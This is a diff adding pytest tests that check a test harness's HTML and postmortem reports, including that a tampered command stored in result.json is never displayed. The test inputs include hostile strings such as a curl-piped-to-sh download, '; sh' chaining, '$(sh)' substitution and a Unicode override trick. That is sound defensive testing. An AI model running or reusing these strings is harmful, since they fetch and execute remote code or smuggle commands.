@@ -108,6 +108,42 @@ def test_a_journal_alone_is_judged_again_for_its_page(tmp_path):
     assert "harness check" in harness.html_report(tmp_path / "run").read_text()
 
 
+def test_a_strict_run_s_reports_are_made_again_as_strictly(tmp_path):
+    run = harness.run("answer-lost", out=tmp_path, strict=True)
+    assert run.verdict == "unknown"
+    first = (tmp_path / "report.html").read_bytes()
+    assert harness.html_report(tmp_path).read_bytes() == first
+    assert "**Verdict** | unknown" in harness.postmortem(tmp_path).read_text()
+
+
+def test_a_page_that_is_asked_to_be_strict_says_how_to_repeat_that(tmp_path):
+    run = harness.run("answer-lost", out=tmp_path, html=False)
+    assert run.verdict == "pass"
+    assert f"{run.outcome.command} --strict</code>" in harness.html_report(tmp_path, strict=True).read_text()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://example.invalid/x | sh", "harness run answer-lost; sh", "harness run $(sh)", "harness run 'a", "harness explore x",
+        "harness run 'a\nb'", "harness run '\u202ehs'", "harness run answer-lost # x", "",
+    ],
+)  # fmt: skip
+def test_a_kept_command_that_is_none_of_ours_is_not_shown(tmp_path, command):
+    harness.run("answer-lost", out=tmp_path, html=False)
+    result = json.loads((tmp_path / "result.json").read_text())
+    (tmp_path / "result.json").write_text(json.dumps({**result, "command": command}))
+    assert "<pre><code>harness check " in harness.html_report(tmp_path).read_text()
+    assert "```sh\nharness check " in harness.postmortem(tmp_path).read_text()
+
+
+def test_the_result_of_another_run_tells_no_command(tmp_path):
+    harness.run("answer-lost", out=tmp_path / "one", html=False)
+    harness.run("answer-lost", out=tmp_path / "two", seed=99, html=False)
+    (tmp_path / "two" / "result.json").replace(tmp_path / "one" / "result.json")
+    assert "<pre><code>harness check " in harness.html_report(tmp_path / "one").read_text()
+
+
 def test_a_page_may_be_left_out(tmp_path):
     harness.run("answer-lost", out=tmp_path, html=False)
     assert sorted(path.name for path in tmp_path.iterdir()) == ["journal.jsonl", "junit.xml", "report.md", "result.json"]
